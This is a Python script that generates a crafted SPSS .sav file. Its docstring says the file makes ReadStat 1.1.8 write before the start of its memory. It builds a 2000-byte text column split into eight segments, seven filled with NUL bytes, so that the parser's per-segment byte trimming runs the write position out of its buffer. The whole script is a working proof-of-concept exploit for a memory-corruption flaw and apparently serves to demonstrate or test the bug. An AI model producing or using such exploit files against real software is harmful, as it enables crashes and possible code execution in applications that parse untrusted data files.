#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-3.0-or-later
"""Writes an SPSS file that makes ReadStat 1.1.8 write before the start of its memory.

usage: hostile_sav.py > FILE.sav

One text column of 2000 bytes is stored as eight segments. ReadStat takes a byte off at the end of
each segment but the last; in UTF-8 it leaves out NUL bytes first. Here seven segments are NUL bytes
only, so that it stands seven bytes before its memory when the eighth arrives.
"""
import struct
import sys

SEGMENTS, STORED, KEPT, WIDTH = 8, 255, 252, 2000


def variable(name, width):
    def record(kind, name, form):
        return struct.pack("<6i8s", 2, kind, 0, 0, form, form, name.ljust(8))
    continued = record(-1, b"", 1 << 16 | 1 << 8)
    return record(width, name, 1 << 16 | width << 8) + continued * ((width + 7) // 8 - 1)


def extension(subtype, data):
    return struct.pack("<4i", 7, subtype, 1, len(data)) + data


def main():
    last = WIDTH - KEPT * (SEGMENTS - 1)
    widths = [STORED] * (SEGMENTS - 1) + [last]
    names = [b"T"] + [b"T%d" % i for i in range(SEGMENTS - 1)]
    slots = [(width + 7) // 8 for width in widths]
    header = b"$FL2" + b"@(#) SPSS DATA FILE".ljust(60)
    header += struct.pack("<5id", 2, sum(slots), 0, 0, 1, 100.0)
    header += b"01 Jan 26" + b"00:00:00" + b" " * 64 + b"\0" * 3
    body = b"".join(map(variable, names, widths))
    body += struct.pack("<4i", 7, 3, 4, 8) + struct.pack("<8i", 20, 0, 0, -1, 1, 1, 2, 65001)
    body += extension(14, b"T=%d\0\t" % WIDTH) + extension(20, b"UTF-8") + struct.pack("<2i", 999, 0)
    row = b"\0" * (8 * sum(slots[:-1])) + b"A" * (8 * slots[-1])
    sys.stdout.buffer.write(header + body + row)


if __name__ == "__main__":
    main()
